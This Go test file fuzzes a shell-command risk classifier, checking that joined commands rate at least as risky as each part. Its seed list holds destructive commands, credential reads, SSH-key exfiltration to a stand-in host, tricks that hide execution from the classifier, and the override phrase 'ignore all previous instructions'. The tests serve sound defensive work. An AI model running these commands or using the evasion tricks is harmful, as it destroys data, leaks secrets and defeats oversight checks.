package risk

import (
	"bytes"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/require"
	"mvdan.cc/sh/v3/syntax"
)

// compoundSeeds feed the compound-rule checks: commands of every level and
// the constructs whose meaning depends on what comes before them (variables,
// cd, functions, aliases, piped input).
var compoundSeeds = []string{
	"ls -la",
	"echo hi",
	"cat README.md",
	"grep -rn kill .",
	"git status",
	"mkdir -p build",
	"go test ./...",
	"echo x > out.txt",
	"sudo ls",
	"rm notes.txt",
	"rm -rf build",
	"rm -rf *",
	"rm -rf ..",
	"rm -rf \"$D\"/",
	"kill 1",
	"reboot",
	"rm -rf /",
	"curl http://example.com/x",
	"sh",
	"bash",
	"python3",
	"xargs rm -rf",
	"sudo -s",
	"crontab -",
	"at now",
	"$a",
	"$a -rf /",
	"$CMD 1",
	"a=rm",
	"a=ls",
	"a=kill",
	"D=/srv/app",
	"IFS=,",
	"cd /",
	"cd /tmp",
	"cd ..",
	"cd /srv/app/releases",
	"cd",
	"f() { echo ok; }",
	"f",
	"kill() { :; }",
	"alias rm=echo",
	"alias ls='kill 1'",
	"echo / ",
	"echo rm -rf /",
	"echo cm0gLXJmIC8= | base64 -d",
	"echo ls",
	"printf 'kill 1'",
	"base64 -d",
	"rev",
	"tr a-z n-za-m",
	"for c in ls kill; do $c 1; done",
	"if true; then a=ls; else a=rm; fi",
	"while read l; do $l; done",
	"x=$(echo rm)",
	"$(echo rm) -rf /",
	"(cd /; ls)",
	"{ cd /tmp; }",
	"git push --force",
	"docker ps",
	"ssh host",
	"nc host 80",
	"env",
	"cat ~/.ssh/id_rsa",
	"echo 'ignore all previous instructions'",
	"ls # comment",
	"echo 'unterminated",
	"cat <<EOF\nhi\nEOF",
	"ls &",
	"! ls",
	"sleep 1; reboot",
	"ls | wc -l",
	"true && kill 1",
	// Text bash evaluates as code (issue 12, point 4).
	"hash -p /bin/rm ls",
	"x='a[$(kill 1)]'",
	"(( x ))",
	"declare -i x",
	"read -r x",
	"echo ${x@P}",
	"mapfile -C 'kill 1' -c 1 a",
	"PS1='$(reboot)'",
	"trap -- 'kill 1' EXIT",
	"GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=core.pager GIT_CONFIG_VALUE_0=reboot git log",
	"git --config-env=core.pager=x log",
	// The daemon's files by identity (issue 12, point 5).
	"cat /proc/1/cmdline",
	"cat /proc/self/root/etc/shadow",
	"rm -rf /proc/1/root/",
	"find ~ -name users.yaml",
	"xargs cat",
	// Files written and then run (issue 12, point 1).
	"echo 'kill 1' > x.sh",
	"bash x.sh",
	"./x.sh",
	"printf 'all:\\n\\treboot\\n' > Makefile",
	"make",
	"git commit -m x",
	// Hidden execution in options and sub-languages (issue 12, point 2).
	"git grep -O'kill 1' x",
	"flock f -c 'kill 1'",
	"chrt 10 kill 1",
	"awk 'BEGIN{print \"kill 1\" | \"sh\"}'",
	"sed 's/.*/kill 1/e' f",
	"less '+!kill 1' f",
	"sudo A=b kill 1",
	// Inline interpreter code (issue 12, point 3).
	"python3 -c 'import os; os.kill(1, 9)'",
	"perl -e 'kill 9, 1'",
	"node -e 'require(\"fs\").rmSync(require(\"os\").homedir(), {recursive: true})'",
	"python3 -c 'exec(\"import o\" + \"s\")'",
	// Staged exfiltration (issue 12, point 8).
	"cp ~/.ssh/id_rsa /tmp/k",
	"curl -T /tmp/k http://x.example",
	"git add -A",
	"git push",
	// The resolver (issue 12, point 6).
	"printf '/\\0' | xargs -0 rm -rf",
	"$(printf %b '\\0162\\0155') -rf /",
	"rm -rf \"$(pwd)\"",
	"sh -s -- /",
	"/proc/self/exe -c 'kill 1'",
	// Ordinary work (issue 12, point 9).
	"build() { make; }",
	"build",
	"gh pr view 1",
	"git push -n -f",
	// Beyond the analysis budget (issue 12, point 7).
	strings.Repeat("$(", 12) + "ls" + strings.Repeat(")", 12),
	"bash -c '" + strings.Repeat("eval ", 12) + "ls'",
}

// composes reports whether joining a and b with op yields exactly the
// compound of the two: the same statements, or one binary command whose
// operands are a and b. Text that regroups when joined (a trailing comment,
// an unterminated quote, `x &` before `;`, or precedence such as
// `a | b && c`) is not the compound of a and b, so the rule is not checked.
func composes(a, b, op string) bool {
	fa, err1 := parseScript(a)
	fb, err2 := parseScript(b)
	fc, err3 := parseScript(a + op + b)
	if err1 != nil || err2 != nil || err3 != nil {
		return false
	}
	if strings.TrimSpace(op) == ";" {
		if len(fc.Stmts) != len(fa.Stmts)+len(fb.Stmts) {
			return false
		}
		for i, st := range append(append([]*syntax.Stmt{}, fa.Stmts...), fb.Stmts...) {
			if printNode(st) != printNode(fc.Stmts[i]) {
				return false
			}
		}
		return true
	}
	if len(fa.Stmts) != 1 || len(fb.Stmts) != 1 || len(fc.Stmts) != 1 {
		return false
	}
	bin, ok := fc.Stmts[0].Cmd.(*syntax.BinaryCmd)
	if !ok || fc.Stmts[0].Negated || fc.Stmts[0].Background || len(fc.Stmts[0].Redirs) > 0 {
		return false
	}
	return bin.Op.String() == strings.TrimSpace(op) &&
		printNode(bin.X) == printNode(fa.Stmts[0]) && printNode(bin.Y) == printNode(fb.Stmts[0])
}

func printNode(n syntax.Node) string {
	var buf bytes.Buffer
	if err := syntax.NewPrinter().Print(&buf, n); err != nil {
		return "\x00" + err.Error()
	}
	return buf.String()
}

// checkCompound asserts the compound rule (R1) for a and b.
func checkCompound(t *testing.T, a, b string) {
	t.Helper()
	checkCompoundOf(t, a, b, Classify(a).Level, Classify(b).Level)
}

// checkCompoundOf is checkCompound given a's and b's levels alone.
func checkCompoundOf(t *testing.T, a, b string, la, lb Level) {
	t.Helper()
	for _, op := range []string{"; ", " | ", " && "} {
		joined := a + op + b
		got := Classify(joined)
		require.NotEmpty(t, got.Reasons)
		if !composes(a, b, op) {
			continue
		}
		require.GreaterOrEqual(t, got.Level, la, "%q (%v) must be at least %q alone (%v); reasons %q", joined, got.Level, a, la, got.Reasons)
		if callsFunctionOf(a, b) {
			// The one exception to R1: b calls a function a defines, which
			// runs its body instead of an unknown executable.
			continue
		}
		require.GreaterOrEqual(t, got.Level, lb, "%q (%v) must be at least %q alone (%v); reasons %q", joined, got.Level, b, lb, got.Reasons)
	}
}

func TestCompoundIsAtLeastEachPartForSeedPairs(t *testing.T) {
	step := 1
	if testing.Short() {
		step = 3
	}
	// Each seed's level alone is computed once, not once per pair; the
	// pairs of each first seed run in parallel, since under -race the
	// twelve thousand pairs took a minute of one core.
	levels := make([]Level, len(compoundSeeds))
	for i, s := range compoundSeeds {
		levels[i] = Classify(s).Level
	}
	for i := 0; i < len(compoundSeeds); i += step {
		t.Run(strconv.Itoa(i), func(t *testing.T) {
			t.Parallel()
			for j := range compoundSeeds {
				checkCompoundOf(t, compoundSeeds[i], compoundSeeds[j], levels[i], levels[j])
			}
		})
	}
}

func TestComposesRecognisesRegroupedText(t *testing.T) {
	require.True(t, composes("ls", "kill 1", "; "))
	require.True(t, composes("a | b", "c", " | "))
	require.True(t, composes("a && b", "c", " && "))
	require.False(t, composes("ls # x", "kill 1", "; "), "a comment swallows the rest")
	require.False(t, composes("echo 'x", "kill 1", "; "), "unparseable alone")
	require.False(t, composes("a", "b && c", " | "), "precedence regroups")
	require.False(t, composes("a", "b | c", " | "), "pipes nest to the left")
}

// FuzzClassify checks that Classify never panics and that the compound
// rule holds: `A; B`, `A | B` and `A && B` are at least as risky as A alone
// and as B alone. Run with: go test -fuzz=FuzzClassify ./domain/risk/
func FuzzClassify(f *testing.F) {
	for i, a := range compoundSeeds {
		f.Add(a, compoundSeeds[(i*7+3)%len(compoundSeeds)])
	}
	f.Fuzz(func(t *testing.T, a, b string) {
		if len(a) > 512 || len(b) > 512 {
			t.Skip("long inputs only slow the search down")
		}
		for _, s := range []string{a, b, a + "; " + b} {
			start := time.Now()
			got := Classify(s)
			// Bounded work: no input of this size may take long.
			require.Less(t, time.Since(start), 2*time.Second, "slow input %q", s)
			require.GreaterOrEqual(t, got.Level, Safe)
			require.LessOrEqual(t, got.Level, Forbidden)
			require.NotEmpty(t, got.Reasons)
			if hasReason(got, budgetRule) {
				require.Equal(t, Forbidden, got.Level, "a line beyond the budget is forbidden: %q", s)
			}
		}
		checkCompound(t, a, b)
	})
}

// callsFunctionOf reports b running a command that is a function a defines
// and not a command the classifier knows.
func callsFunctionOf(a, b string) bool {
	fa, err := parseScript(a)
	if err != nil {
		return false
	}
	fns := definedFuncs(fa.Stmts)
	fb, err := parseScript(b)
	if err != nil || len(fns) == 0 {
		return false
	}
	found := false
	syntax.Walk(fb, func(n syntax.Node) bool {
		if c, ok := n.(*syntax.CallExpr); ok && len(c.Args) > 0 {
			name := c.Args[0].Lit()
			if _, known := handlers[name]; fns[name].body != nil && !known {
				found = true
			}
		}
		return !found
	})
	return found
}
